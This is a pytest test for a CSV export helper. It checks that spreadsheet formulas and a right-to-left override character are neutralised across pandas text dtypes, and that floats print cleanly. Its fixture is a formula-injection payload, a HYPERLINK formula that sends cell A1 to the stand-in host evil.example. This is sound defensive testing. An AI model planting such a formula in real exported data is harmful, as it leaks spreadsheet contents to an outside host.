"""A CSV export's text is made safe for spreadsheets whatever dtype pandas gives it, and its floats read cleanly."""

from __future__ import annotations

import warnings

import pytest

from harness.store.export import spreadsheet_safe

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text_dtype", ["str", object])
def test_formulas_and_bidi_controls_are_neutralised_without_a_library_warning(text_dtype):
    import pandas as pd

    frame = pd.DataFrame({"operator": [FORMULA, "gemm\u202eslow"], "total_ms": [0.10500000000000001, 2.0],
                          "calls": [3, 4]}).astype({"operator": text_dtype})
    with warnings.catch_warnings():
        # Before, select_dtypes("object") warned (Pandas4Warning) on every export; under pandas' announced change
        # the str column would no longer be selected at all, and the formula would reach the spreadsheet.
        warnings.simplefilter("error")
        safe = spreadsheet_safe(frame)
    assert list(safe["operator"]) == ["'" + FORMULA, "gemm\\u202eslow"]  # before, U+202E went out raw
    assert list(safe["total_ms"]) == [0.105, 2.0] and list(safe["calls"]) == [3, 4]  # numbers stay numbers
    assert "0.105," in safe.to_csv(index=False)  # before, 0.10500000000000001
